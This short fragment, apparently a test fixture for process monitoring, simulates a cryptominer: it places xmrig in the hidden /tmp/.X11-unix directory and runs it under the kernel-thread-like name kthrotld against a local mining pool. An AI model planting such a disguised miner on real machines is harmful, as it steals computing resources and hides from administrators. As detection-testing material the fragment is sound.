#= added processes path=/tmp/.X11-unix/xmrig
wait_asleep /tmp/.X11-unix/xmrig
talk /usr/local/bin/kthrotld 3333 'xmrig -o 127.0.0.66:3333 -k --donate-level 1'
